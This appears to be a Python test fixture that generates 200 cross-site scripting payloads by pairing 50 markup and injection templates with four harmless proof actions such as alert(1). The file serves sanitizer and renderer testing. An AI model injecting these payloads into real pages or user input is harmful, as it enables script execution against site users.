"""Two hundred texts that run as a script wherever a page takes text for markup, and nowhere else."""

from __future__ import annotations

from itertools import product

_ACTIONS = ("alert(1)", "confirm`1`", "document.title='XSS'", "window['al'+'ert'](1)")
_MARKUP = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<a href="jav\tascript:{}">x</a>',
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<math><mtext><script>{}</script></mtext></math>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button>x</button></form>',
    "<style>@import 'javascript:{}';</style>",
    '<div style="background:url(javascript:{})">',
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`-{}-`",
    "';{};//",
    '";{};//',
    '\\";{};//',
    "javascript:{}",
    " javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "\u202e<script>{}</script>",
    "\u001b]8;;javascript:{}\u0007x\u001b]8;;\u0007",
    "<x onclick={}>x</x>",
    "<marquee onstart={}>x</marquee>",
    '<link rel=import href="data:text/html,<script>{}</script>">',
    '<base href="javascript:{}//">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    "<select><script>{}</script></select>",
    "<p onmouseover={}>x</p>",
    "<animate onbegin={} attributeName=x>",
)

PAYLOADS = [markup.format(action) for markup, action in product(_MARKUP, _ACTIONS)]
assert len(PAYLOADS) == 200
